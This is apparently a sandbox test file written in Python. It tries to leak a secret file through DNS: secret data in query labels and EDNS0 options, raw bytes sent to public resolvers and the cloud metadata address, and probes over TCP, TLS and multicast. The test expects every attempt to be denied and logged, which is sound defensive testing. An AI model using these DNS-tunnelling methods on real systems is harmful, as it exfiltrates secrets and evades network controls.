# id: NT-05.every-form   class: EXFIL   backends: native gvisor   limits: wallClockSeconds=60
# expect-phase: succeeded   expect-stdout: ^done$   expect-not: HELD
# expect-sum: egress_denied tried
# expect-audit: egress_denied host=8.8.8.8 ip=8.8.8.8 port=53 proto=udp via=dns
# expect-audit: egress_denied host=169.254.169.254 ip=169.254.169.254 port=53 proto=udp via=dns
# expect-audit: egress_denied host=2001:4860:4860::8844 ip=2001:4860:4860::8844 port=53 proto=udp via=dns
# Questions in every form, to every server: an answer names the gate or nobody,
# never carries data, and each question is recorded.
import itertools, os, random, socket, struct

tried = 0
secret = open("/work/secret", "rb").read().hex()

def name(text):
    return b"".join(bytes([len(p)]) + p for p in text.encode().split(b".") if p) + b"\0"

def question(text, kind=1, cls=1, flags=0x100, extra=b"", counts=(1, 0, 0, 0)):
    return struct.pack(">HHHHHH", random.getrandbits(16), flags, *counts) + name(text) + struct.pack(">HH", kind, cls) + extra

def ask(packet, server=("8.8.8.8", 53), wait=3.0):
    """The answer, checked; None if there is none."""
    global tried
    family = socket.AF_INET6 if ":" in server[0] else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(wait)
        s.connect(server)
        s.send(packet)
        tried += 1
        try:
            reply = s.recv(4096)
        except OSError:
            return None
    rcode, answers = reply[3] & 15, struct.unpack(">H", reply[6:8])[0]
    if reply[:2] != packet[:2] or not reply[2] & 0x80 or len(reply) > len(packet) + 16:
        print("HELD odd answer", reply.hex())
    if answers and not (rcode == 0 and answers == 1 and reply[-4:-2] == bytes([198, 18]) and
                        reply[-6:-4] == b"\0\4" and reply[-16:-14] == b"\xc0\x0c"):
        print("HELD answer with something else", reply.hex())
    return rcode, answers

SERVERS = [(a, 53) for a in ("8.8.8.8", "1.1.1.1", "9.9.9.9", "198.18.0.1", "169.254.169.253", "10.96.0.10",
                             "172.17.0.1", "192.168.65.7", "100.100.100.100", "127.0.0.53", "2001:4860:4860::8888",
                             "fd6e:636c:6176::1", "fd00:ec2::253", "ff02::1", "ff02::fb", "224.0.0.251")]
for server in SERVERS:
    if server[0].startswith("127."):
        continue  # its own loopback, where nobody is
    try:
        ask(question("who.example.com"), server, 0.2 if server[0].startswith(("ff", "224")) else 3.0)
    except OSError:
        pass
# Data in labels: 63 octets each, 255 in all; and one too long.
for count in (1, 2, 3):
    text = ".".join((secret * 3)[:63] for _ in range(count)) + ".t.example.com"
    assert ask(question(text)) is not None
ask(question(".".join(["a" * 63] * 4)), wait=0.3)
for i in range(40):
    ask(question(f"{os.urandom(16).hex()}.nx.example.com"))
for kind in (2, 5, 6, 10, 12, 15, 16, 28, 33, 35, 41, 43, 46, 52, 64, 65, 99, 249, 251, 252, 255, 256, 257, 65280, 65535):
    answer = ask(question("t.example.com", kind))
    if answer is None or answer[1]:
        print("HELD type", kind, answer)
for cls in (0, 2, 3, 4, 254, 255, 65535):
    answer = ask(question("c.example.com", 1, cls), wait=0.3)
    if answer and answer[1]:
        print("HELD class", cls, answer)
for mixed in ("MiXeD.ExAmPlE.CoM", "mixed.example.com", "MIXED.EXAMPLE.COM"):
    ask(question(mixed))
# EDNS0 with data, cookies, client subnet; other sections filled.
opt = b"\0" + struct.pack(">HHIH", 41, 4096, 0, 24) + struct.pack(">HH", 65001, 20) + secret[:20].encode()
ask(question("edns.example.com", extra=opt, counts=(1, 0, 0, 1)))
# Broken ones, on purpose: no answer is fine, an answer with data isn't.
broken = [b"", b"\0", bytes(11), bytes(12), question("q.example", flags=0x8180), question("q.example", flags=0x2800),
          question("q.example", counts=(0, 0, 0, 0)), question("q.example", counts=(2, 0, 0, 0)),
          question("q.example", counts=(1, 9, 9, 9)), question("q.example")[:-3],
          struct.pack(">HHHHHH", 1, 0x100, 1, 0, 0, 0) + b"\xc0\x0c" + struct.pack(">HH", 1, 1),
          struct.pack(">HHHHHH", 1, 0x100, 1, 0, 0, 0) + b"\x3fshort", os.urandom(600), secret.encode() * 20]
for packet in broken:
    ask(packet, wait=0.1)
for server in ("169.254.169.254", "2001:4860:4860::8844"):
    ask(secret.encode(), (server, 53), 0.1)
# Over TCP and TLS, over HTTPS: refused like every connect.
for host, port in (("8.8.8.8", 53), ("1.1.1.1", 853), ("8.8.4.4", 443), ("198.18.0.1", 53), ("9.9.9.9", 8853)):
    with socket.socket() as s:
        s.settimeout(3)
        tried += 1
        try:
            s.connect((host, port))
            packet = question("tcp.example.com")
            s.sendall(struct.pack(">H", len(packet)) + packet)
            if s.recv(100) not in (b"", bytes([21, 3, 3, 0, 2, 2, 49])):
                print("HELD an answer over TCP", host, port)
        except OSError:
            pass
# Multicast names, NetBIOS, service discovery: silence.
for host, port in (("224.0.0.251", 5353), ("224.0.0.252", 5355), ("198.18.255.255", 137), ("239.255.255.250", 1900)):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(0.1)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        try:
            s.sendto(question("mdns.local"), (host, port))
            tried += 1
            print("HELD an answer from", host, s.recv(100))
        except OSError:
            pass
print("tried", tried)
print("done")
